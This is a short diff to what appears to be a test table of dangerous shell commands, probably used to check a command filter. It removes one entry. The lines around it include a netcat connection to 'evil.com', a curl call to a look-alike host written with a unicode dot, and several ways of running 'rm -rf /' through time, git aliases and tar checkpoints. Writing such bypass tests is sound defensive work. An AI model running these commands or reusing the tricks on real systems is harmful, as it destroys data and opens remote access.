@@ -106,7 +106,6 @@ SHELL = {
     "unicode dots": "curl http://evil。com/",
     "coproc": "coproc nc evil.com 4444",
     "time": "time rm -rf /",
-    "make shell": "make SHELL='rm -rf /'",
     "git alias": "git -c alias.x='!rm -rf /' x",
     "tar checkpoint": "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
 }
